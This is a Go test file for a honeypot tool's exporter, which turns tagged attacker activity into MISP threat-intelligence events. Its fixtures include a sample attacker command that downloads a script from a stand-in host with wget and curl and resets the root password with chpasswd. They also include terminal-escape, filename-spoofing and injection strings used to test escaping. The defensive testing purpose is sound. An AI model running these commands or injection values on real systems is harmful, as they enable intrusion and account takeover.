package misp

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"

	"ttpctl/internal/attack"
	"ttpctl/internal/event"
)

func seen(at, address, session, technique, sub, evidence string) event.Tag {
	return event.Tag{
		AttackerIP: address, AttackerUUID: "of " + address, SessionID: event.Some(session), Tactic: "TA0011", Technique: technique, SubTechnique: sub,
		Confidence: 0.5, RuleID: "R0012", Evidence: []byte(evidence), ObservedAt: at,
	}
}

func sample() []event.Tag {
	return []event.Tag{
		seen("2026-09-14T01:00:05Z", "203.0.113.9", "s1", "T1105", "", `{"command_text":"wget http://bob:hunter2@evil.example/a.sh; curl http://192.0.2.200/b; curl http://10.0.0.1/c; echo root:hunter2|chpasswd"}`),
		seen("2026-09-14T01:00:09Z", "203.0.113.9", "s2", "T1070", "T1070.003", `{"command_text":"history -c"}`),
		seen("2026-09-15T01:00:09Z", "10.0.0.7", "s3", "T1105", "", `{"filename":"a.exe","shasum":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}`),
		seen("", "", "s4", "T9999", "", `{}`),
	}
}

func write(t *testing.T, o Options, tags []event.Tag) []byte {
	t.Helper()
	o.Catalogue = attack.Load()
	var b bytes.Buffer
	w := New(&b, o)
	if err := errors.Join(w.Write(tags), w.Close()); err != nil {
		t.Fatal(err)
	}
	if !jsontext.Value(b.Bytes()).IsValid() { // strict: UTF-8, no name twice
		t.Fatalf("the event is no strict JSON: %.300s", b.Bytes())
	}
	return b.Bytes()
}

// A form is what a member must look like.
type form = *regexp.Regexp

var (
	uuid    = regexp.MustCompile(`^"[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}"$`)
	number  = regexp.MustCompile(`^"\d+"$`)
	text    = regexp.MustCompile(`^"`)
	boolean = regexp.MustCompile(`^(true|false)$`)
	instant = regexp.MustCompile(`^"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}\+00:00"$`)
	many    = regexp.MustCompile(`^\[`)
	nothing = regexp.MustCompile(`^""$`)
)

// The members that the core format (draft-dulaunoy-misp-core-format-18, sections Event,
// Attribute, Object and Tag) asks for or allows, as far as they are written: all that
// MUST, SHALL and SHOULD be there but id, which only an instance can give, org, which is
// the importer's, and what belongs to a life as a published event (first_publication,
// locked).
var (
	eventForm = map[string]form{
		"uuid": uuid, "published": boolean, "info": regexp.MustCompile(`^"[^\n]{1,256}"$`), "threat_level_id": regexp.MustCompile(`^"[1-4]"$`), "analysis": regexp.MustCompile(`^"[0-2]"$`),
		"date": regexp.MustCompile(`^"\d{4}-\d\d-\d\d"$`), "timestamp": number, "publish_timestamp": number, "org_id": number, "orgc_id": number,
		"attribute_count": number, "extends_uuid": nothing,
		"distribution": regexp.MustCompile(`^"[0-4]"$`), "sharing_group_id": number, "Orgc": regexp.MustCompile(`^\{"id":"\d+","name":".*","uuid":"[0-9a-f-]{36}"\}$`),
		"Tag": many, "Attribute": many, "Object": many,
	}
	attributeForm = map[string]form{
		"event_id": number, "object_id": number, "uuid": uuid, "type": text, "category": text, "value": regexp.MustCompile(`^".+"$`), "to_ids": boolean, "disable_correlation": boolean,
		"distribution": regexp.MustCompile(`^"[0-5]"$`), "sharing_group_id": number, "timestamp": number, "deleted": boolean, "comment": text,
		"first_seen": instant, "last_seen": instant, "Tag": many, "object_relation": text,
	}
	tagForm    = map[string]form{"name": regexp.MustCompile(`^"(tlp:|misp-galaxy:mitre-attack-pattern=)`), "colour": regexp.MustCompile(`^"#[0-9A-Fa-f]{6}"$`), "exportable": boolean}
	objectForm = map[string]form{
		"event_id": number, "uuid": uuid, "name": text, "meta-category": text, "description": text, "template_uuid": regexp.MustCompile(`^"[0-9a-f-]{36}"$`), "template_version": number,
		"distribution": regexp.MustCompile(`^"[0-5]"$`), "sharing_group_id": number, "timestamp": number, "deleted": boolean, "comment": text,
		"first_seen": instant, "last_seen": instant, "Attribute": many,
	}
	optional = []string{"first_seen", "last_seen", "Tag", "object_relation", "object_id"}
	// The types that the format gives a category.
	categories = map[string][]string{
		"Network activity": {"ip-src", "url", "hostname"}, "Payload delivery": {"md5", "sha1", "sha256", "sha512", "filename"}, "Other": {"text"},
	}
	// Relations and their types in the templates (MISP/misp-objects, definition.json).
	relations = map[string]map[string]string{
		"url":          {"url": "url", "host": "hostname"},
		"file":         {"md5": "md5", "sha1": "sha1", "sha256": "sha256", "sha512": "sha512", "filename": "filename"},
		"command-line": {"value": "text"},
	}
)

// check holds members to their forms and returns those that are lists.
func check(t *testing.T, what string, raw jsontext.Value, forms map[string]form) map[string]jsontext.Value {
	t.Helper()
	var members map[string]jsontext.Value
	if err := json.Unmarshal(raw, &members); err != nil {
		t.Fatal(err)
	}
	for name, v := range members {
		if f := forms[name]; f == nil || !f.Match(v) {
			t.Errorf("%s: member %s: %.100s", what, name, v)
		}
	}
	for name := range forms {
		if members[name] == nil && !slices.Contains(optional, name) {
			t.Errorf("%s: no member %s", what, name)
		}
	}
	return members
}

func each(t *testing.T, raw jsontext.Value) (all []jsontext.Value) {
	t.Helper()
	if raw == nil {
		return nil
	}
	if err := json.Unmarshal(raw, &all); err != nil {
		t.Fatal(err)
	}
	return all
}

// checkEvent holds an event to the format, and its uuids to being there once.
func checkEvent(t *testing.T, out []byte) {
	t.Helper()
	var doc struct{ Event jsontext.Value }
	if err := json.Unmarshal(out, &doc); err != nil {
		t.Fatal(err)
	}
	e := check(t, "event", doc.Event, eventForm)
	ids := map[string]bool{string(e["uuid"]): true}
	fresh := func(id jsontext.Value) {
		if ids[string(id)] {
			t.Errorf("%s is there twice", id)
		}
		ids[string(id)] = true
	}
	count := 0
	for _, x := range each(t, e["Tag"]) {
		check(t, "tag", x, tagForm)
	}
	for _, a := range each(t, e["Attribute"]) {
		count++
		m := check(t, "attribute", a, attributeForm)
		fresh(m["uuid"])
		for _, x := range each(t, m["Tag"]) {
			check(t, "tag of an attribute", x, tagForm)
		}
	}
	for _, raw := range each(t, e["Object"]) {
		o := check(t, "object", raw, objectForm)
		fresh(o["uuid"])
		for _, a := range each(t, o["Attribute"]) {
			m := check(t, "attribute of an object", a, attributeForm)
			fresh(m["uuid"])
			count++
			if m["object_id"] == nil {
				t.Errorf("attribute %s of an object has no object_id", m["uuid"])
			}
			word := func(v jsontext.Value) string { return strings.Trim(string(v), `"`) }
			name, relation, kind, category := word(o["name"]), word(m["object_relation"]), word(m["type"]), word(m["category"])
			if relations[name][relation] != kind || !slices.Contains(categories[category], kind) {
				t.Errorf("object %s: relation %s of type %s in %s", name, relation, kind, category)
			}
		}
	}
	if got := string(e["attribute_count"]); got != fmt.Sprintf("%q", fmt.Sprint(count)) {
		t.Errorf("attribute_count %s of %d attributes", got, count)
	}
}

func TestForm(t *testing.T) {
	for _, word := range []string{"", "amber+strict"} {
		out := write(t, Options{Producer: "hive", TLP: word}, sample())
		checkEvent(t, out)
		for _, want := range []string{
			`{"name":"misp-galaxy:mitre-attack-pattern=\"Clear Command History - T1070.003\"","colour":"#0088cc","exportable":true}`, `"value":"203.0.113.9","to_ids":true`, `"value":"10.0.0.7","to_ids":false`,
			`"value":"http://evil.example/a.sh","to_ids":true`, `"value":"http://10.0.0.1/c","to_ids":false`, `"object_relation":"sha256"`, `"comment":"2 tags, 2 techniques, 2 sessions"`,
			`"info":"Honeypot: 3 techniques of 2 addresses, 2026-09-14 to 2026-09-15"`,
		} {
			if !bytes.Contains(out, []byte(want)) {
				t.Errorf("no %s in\n%s", want, out)
			}
		}
		if got := bytes.Contains(out, []byte(`{"name":"tlp:amber+strict","colour":"#FFC000","exportable":true}`)); got != (word != "") {
			t.Errorf("--tlp %q: marked %v", word, got)
		}
		for _, secret := range []string{"hunter2", "bob", "T9999 "} {
			if bytes.Contains(out, []byte(secret)) {
				t.Errorf("the event holds %s", secret)
			}
		}
	}
	checkEvent(t, write(t, Options{Producer: "hive"}, nil)) // an empty one
}

func TestSameBytes(t *testing.T) {
	whole := write(t, Options{Producer: "hive"}, sample())
	if again := write(t, Options{Producer: "hive"}, sample()); !bytes.Equal(again, whole) {
		t.Error("the same tags give two events")
	}
	id := func(b []byte) string { return string(b[:60]) }
	if other := write(t, Options{Producer: "hive"}, sample()[1:]); id(other) == id(whole) {
		t.Error("other tags give the same uuid")
	}
}

func TestHostile(t *testing.T) {
	for _, text := range []string{
		"\x1b[2J\x1b]0;pwned\a", "a\r\nb\tc\x00\x7f", "\u202ecod.exe", "\xff\xfe\xc3", `","x`, `" or "="`, "</script>", strings.Repeat("A", 1<<20), strings.Repeat("\x00", 1<<12),
	} {
		quoted, _ := jsontext.AppendQuote(nil, text)
		x := seen(text, text, text, text, text, fmt.Sprintf(`{"command_text":%s,"filename":%s,"shasum":%s,"url":%s}`, quoted, quoted, quoted, quoted))
		x.Tactic, x.RuleID = text, text
		y := seen("2026-09-14T01:00:05Z", "203.0.113.9", text, "T1105", "", string(x.Evidence))
		out := write(t, Options{Producer: text}, []event.Tag{x, y})
		checkEvent(t, out)
		if bytes.Contains(out, []byte(`\u0000`)) || bytes.Contains(out, []byte(`\u001b`)) || len(out) > 64<<10 {
			t.Errorf("%.20q: %d bytes, or control characters: %.200s", text, len(out), out)
		}
	}
}

type brokenWriter struct{}

func (brokenWriter) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }

func TestCloseFails(t *testing.T) {
	w := New(brokenWriter{}, Options{Catalogue: attack.Load()})
	if err := w.Close(); !errors.Is(err, io.ErrClosedPipe) {
		t.Errorf("Close = %v, want the writer's error", err)
	}
}
